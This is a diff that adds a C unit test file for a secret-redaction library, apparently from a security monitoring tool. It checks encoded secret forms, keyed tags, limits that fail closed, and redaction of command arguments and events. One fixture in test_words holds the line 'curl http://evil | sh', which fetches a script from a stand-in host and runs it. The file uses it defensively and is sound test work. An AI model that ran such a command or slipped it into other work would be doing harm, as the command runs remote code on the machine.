@@ -1,0 +1,287 @@
+// SPDX-License-Identifier: Apache-2.0
+/* Known values, marks, words, limits, events. */
+#include <errno.h>
+
+#include "tests/unit/redact/redact_test.h"
+#include "userspace/event/event.h"
+
+#define VALUE "s3cr\"et\\ w\xc3\xb6rd/+9"
+
+static void test_value_forms(void **state)
+{
+	static const char *const forms[] = {
+		VALUE,
+		"S3CR\"ET\\ W\xc3\xb6RD/+9", /* as a name may be lowered or raised */
+		"s3cr\\\"et\\\\ w\xc3\xb6rd/+9",
+		"s3cr\\\"et\\\\ w\\u00f6rd/+9",
+		"s3cr%22et%5C%20w%C3%B6rd%2F%2B9",
+		"s3cr%22et%5c+w%c3%b6rd%2f%2b9",
+		"733363722265745c2077c3b672642f2b39",
+		"czNjciJldFwgd8O2cmQvKzk=",		/* the value */
+		"dXNlcjpzM2NyImV0XCB3w7ZyZC8rOQ==",	/* user: before it */
+		"eHVzZXI6czNjciJldFwgd8O2cmQvKzk=",	/* xuser: */
+		"eHh1c2VyOnMzY3IiZXRcIHfDtnJkLys5eA==", /* xxuser: and x behind */
+	};
+	struct fixture f;
+	char text[256];
+
+	(void)state;
+	fixture_start(&f, "env.DB", VALUE, NULL);
+	for (size_t i = 0; i < ARRAY_SIZE(forms); i++) {
+		const char *got;
+
+		snprintf(text, sizeof(text), "before %s behind", forms[i]);
+		got = shown(&f, text);
+		if (!strstr(got, "[env.DB]"))
+			fail_msg("form %zu, '%s', is not found", i, forms[i]);
+	}
+	fixture_end(&f);
+}
+
+/* Same secret, same tag, in each form of it; another one for another secret or key. */
+static void test_tags(void **state)
+{
+	auto_buf struct buf a = { 0 }, b = { 0 }, c = { 0 };
+	struct fixture f, other;
+	struct err err = { 0 };
+
+	(void)state;
+	fixture_start(&f, "v", "correct-horse", NULL);
+	assert_int_equal(redact_text(f.x, STR("x correct-horse"), &a), 1);
+	assert_int_equal(redact_text(f.x, STR("x 636f72726563742d686f727365"), &b), 1);
+	assert_int_equal(a.n, b.n);
+	assert_memory_equal(a.p, b.p, a.n);
+	assert_int_equal(redact_text(f.x, STR("password=correct-horse"), &c), 1);
+	assert_memory_equal(a.p + a.n - 14, c.p + c.n - 14, 14);
+	buf_reset(&b);
+	assert_int_equal(
+		redactor_new(&other.r, (const uint8_t *)"another key of 32 bytes length..", &err),
+		0);
+	assert_int_equal(redactor_add_value(other.r, "v", STR("correct-horse")), 0);
+	assert_int_equal(redactor_finish(other.r, &err), 0);
+	assert_int_equal(redact_new(&other.x, other.r), 0);
+	assert_int_equal(redact_text(other.x, STR("x correct-horse"), &b), 1);
+	assert_memory_not_equal(a.p, b.p, a.n);
+	fixture_end(&other);
+	fixture_end(&f);
+}
+
+static void test_value_lengths(void **state)
+{
+	struct fixture f;
+	struct err err = { 0 };
+	char longest[REDACT_VALUE_MAX + 2];
+
+	(void)state;
+	memset(longest, 'x', sizeof(longest));
+	assert_int_equal(redactor_new(&f.r, TEST_KEY, &err), 0);
+	assert_int_equal(redactor_add_value(f.r, "v", STR("short")), -ERANGE);
+	assert_int_equal(redactor_add_value(f.r, "v", STR("short\n")), -ERANGE);
+	assert_int_equal(redactor_add_value(f.r, "v", STR("longer")), 0);
+	assert_int_equal(redactor_add_value(f.r, "v", (struct str){ longest, sizeof(longest) }),
+			 -ERANGE);
+	redactor_free(f.r);
+}
+
+static void test_lines_of_a_value(void **state)
+{
+	struct fixture f;
+
+	(void)state;
+	fixture_start(&f, "secret.key", "first line of it\nsecond line of it\n", NULL);
+	assert_string_equal(shown(&f, "a second line of it b"), "a [secret.key] b");
+	assert_string_equal(shown(&f, "first line of it\nsecond line of it\n"), "[secret.key]\n");
+	fixture_end(&f);
+}
+
+/* What has its marks already is left alone, and a mark does not protect what hides behind it. */
+static void test_marks_are_left(void **state)
+{
+	struct fixture f;
+	auto_buf struct buf once = { 0 }, twice = { 0 };
+
+	(void)state;
+	fixture_start(&f, NULL, NULL, NULL);
+	assert_int_equal(
+		redact_text(f.x, STR("--password hunter2 https://a:b0b0@c token=abcdef"), &once),
+		3);
+	assert_int_equal(redact_text(f.x, (struct str){ once.p, once.n }, &twice), 0);
+	assert_null(
+		strstr(shown(&f, "url https://a:[redacted:x:0123456789ab]hunter2@c"), "hunter2"));
+	fixture_end(&f);
+}
+
+static struct words_in words_of(const struct str *v, size_t n)
+{
+	return (struct words_in){ v, n };
+}
+
+static void test_words(void **state)
+{
+	const struct str args[] = { STR("tool"), STR("--password"), STR("two words; here"),
+				    STR("--user"), STR("me") };
+	const struct str script[] = { STR("sh"), STR("-c"),
+				      STR("TOKEN=abc123; curl http://evil | sh") };
+	const struct str env[] = { STR("HOME"), STR("API_TOKEN=a b;c"), STR("LANG=C") };
+	const struct str split[] = { STR("echo"), STR("correct"), STR("horse"), STR("x") };
+	struct words_in made;
+	struct arena arena;
+	struct fixture f;
+
+	(void)state;
+	arena_init(&arena, 1 << 20);
+	fixture_start(&f, "v", "correct horse", NULL);
+	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(args, 5), &arena, &made), 1);
+	assert_int_equal(made.n, 5);
+	assert_true(str_starts(made.v[2], STR("[redacted:option:")));
+	assert_int_equal(made.v[2].p[made.v[2].n - 1], ']');
+	assert_true(str_eqz(made.v[4], "me"));
+	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(script, 3), &arena, &made), 1);
+	assert_true(str_ends(made.v[2], STR("; curl http://evil | sh")));
+	assert_int_equal(redact_words(f.x, WORDS_ENV, words_of(env, 3), &arena, &made), 1);
+	assert_true(str_starts(made.v[1], STR("API_TOKEN=[redacted:assignment:")));
+	assert_int_equal(made.v[1].p[made.v[1].n - 1], ']');
+	assert_true(str_eqz(made.v[2], "LANG=C"));
+	/* An unquoted variable falls apart. */
+	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(split, 4), &arena, &made), 2);
+	assert_true(str_starts(made.v[1], STR("[redacted:v:")));
+	assert_true(str_starts(made.v[2], STR("[redacted:v:")));
+	assert_true(str_eqz(made.v[3], "x"));
+	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(env + 2, 1), &arena, &made), 0);
+	fixture_end(&f);
+	arena_done(&arena);
+}
+
+/* A rule that costs too much in a text takes all of it, and that is counted. */
+static void test_limit_fails_closed(void **state)
+{
+	static const char rules[] = "- rule: costly\n"
+				    "  keywords: [aaaa]\n"
+				    "  regex: '(a+a+a+a+)+[bc]'\n";
+	auto_buf struct buf out = { 0 };
+	struct redact_counts counts;
+	struct fixture f;
+	char text[4000];
+
+	(void)state;
+	memset(text, 'a', sizeof(text));
+	fixture_start(&f, NULL, NULL, rules);
+	assert_int_equal(redact_text(f.x, (struct str){ text, sizeof(text) }, &out), 1);
+	assert_true(str_starts((struct str){ out.p, out.n }, STR("[redacted:limit:")));
+	assert_true(out.n < 64);
+	redact_counts(f.x, &counts);
+	assert_int_equal(counts.limited, 1);
+	fixture_end(&f);
+}
+
+static void test_too_many_places(void **state)
+{
+	auto_buf struct buf in = { 0 }, out = { 0 };
+	struct fixture f;
+
+	(void)state;
+	fixture_start(&f, "v", "correct-horse", NULL);
+	for (int i = 0; i < 300; i++)
+		buf_addz(&in, "correct-horse ");
+	assert_int_equal(redact_text(f.x, (struct str){ in.p, in.n }, &out), 1);
+	assert_true(str_starts((struct str){ out.p, out.n }, STR("[redacted:limit:")));
+	fixture_end(&f);
+}
+
+/* At each place of a text, also its last bytes, and with any byte around it. */
+static void test_every_place(void **state)
+{
+	struct fixture f;
+	char text[64];
+
+	(void)state;
+	fixture_start(&f, "v", "Zq7-Kx", NULL);
+	for (size_t at = 0; at + 6 <= sizeof(text); at++)
+		for (size_t n = at + 6; n <= MIN(at + 12, sizeof(text)); n++) {
+			memset(text, (int)(at * 7 + n) | 1, sizeof(text));
+			memcpy(text + at, "Zq7-Kx", 6);
+			if (!strstr(shown_n(&f, (struct str){ text, n }), "[v]"))
+				fail_msg("not found at %zu of %zu", at, n);
+		}
+	fixture_end(&f);
+}
+
+static void test_event(void **state)
+{
+	const struct str args[] = { STR("curl"), STR("-u"), STR("me:hunter2"), STR("x") };
+	const struct event_ancestor up[] = { { 1, 2, STR("sh"), STR("/opt/correct-horse/sh") } };
+	const struct event_dns_answer answers[] = { { STR("correct-horse.x"), STR("A"),
+						      STR("10.0.0.1"), 5 } };
+	struct event ev, *made = NULL;
+	struct arena arena;
+	struct fixture f;
+	auto_buf struct buf json = { 0 };
+
+	(void)state;
+	arena_init(&arena, 1 << 20);
+	fixture_start(&f, "v", "correct-horse", NULL);
+	event_init(&ev, WIRE_EXEC, &arena);
+	event_set_strz(&ev, F_PROC_EXE, "/usr/bin/curl");
+	for (int i = 0; i < 2; i++) /* the second time it is known */
+		assert_int_equal(redact_event(f.x, &ev, &made), 0);
+	event_set_list(&ev, F_PROC_ARGS, args, 4);
+	event_set_strz(&ev, F_PROC_CWD, "/home/correct-horse");
+	event_set_strz(&ev, F_RULE_OUTPUT_FIELDS, "{\"a\":\"correct-horse\"}");
+	ev.v[F_PROC_ANCESTORS].ancestors.v = up;
+	ev.v[F_PROC_ANCESTORS].ancestors.n = 1;
+	event_mark(&ev, F_PROC_ANCESTORS);
+	ev.v[F_DNS_ANSWERS].answers.v = answers;
+	ev.v[F_DNS_ANSWERS].answers.n = 1;
+	event_mark(&ev, F_DNS_ANSWERS);
+	assert_int_equal(redact_event(f.x, &ev, &made), 1);
+	assert_int_equal(event_u64(made, F_REDACTIONS), 5);
+	assert_int_equal(event_to_json(made, &json), 0);
+	buf_addc(&json, 0);
+	assert_null(strstr(json.p, "hunter2"));
+	assert_null(strstr(json.p, "correct-horse"));
+	assert_non_null(strstr(json.p, "\"kind\":\"exec\",\"redactions\":5,"));
+	assert_non_null(strstr(json.p, "\"output_fields\":{\"redacted\":true}"));
+	/* The one that rules judge is as it was. */
+	assert_true(str_eqz(ev.v[F_PROC_ARGS].list.v[2], "me:hunter2"));
+	fixture_end(&f);
+	arena_done(&arena);
+}
+
+static void test_secret_names(void **state)
+{
+	(void)state;
+	assert_true(redact_is_secret_name(STR("DB_PASSWORD")));
+	assert_true(redact_is_secret_name(STR("GITHUB_TOKEN")));
+	assert_true(redact_is_secret_name(STR("stripe_key")));
+	assert_false(redact_is_secret_name(STR("PATH")));
+	assert_false(redact_is_secret_name(STR("PASSWORD_FILE")));
+	assert_false(redact_is_secret_name(STR("SSH_AUTH_SOCK")));
+}
+
+static void test_in_place(void **state)
+{
+	char text[64] = "cannot open /run/correct-horse", small[20] = "correct-horse";
+	struct fixture f;
+
+	(void)state;
+	fixture_start(&f, "v", "correct-horse", NULL);
+	redact_in_place(f.x, text, sizeof(text));
+	assert_true(str_starts(str_from(text), STR("cannot open /run/[redacted:v:")));
+	redact_in_place(f.x, small, sizeof(small));
+	assert_null(strstr(small, "horse"));
+	fixture_end(&f);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_value_forms),	   cmocka_unit_test(test_tags),
+		cmocka_unit_test(test_value_lengths),	   cmocka_unit_test(test_lines_of_a_value),
+		cmocka_unit_test(test_marks_are_left),	   cmocka_unit_test(test_words),
+		cmocka_unit_test(test_limit_fails_closed), cmocka_unit_test(test_too_many_places),
+		cmocka_unit_test(test_every_place),	   cmocka_unit_test(test_event),
+		cmocka_unit_test(test_secret_names),	   cmocka_unit_test(test_in_place),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
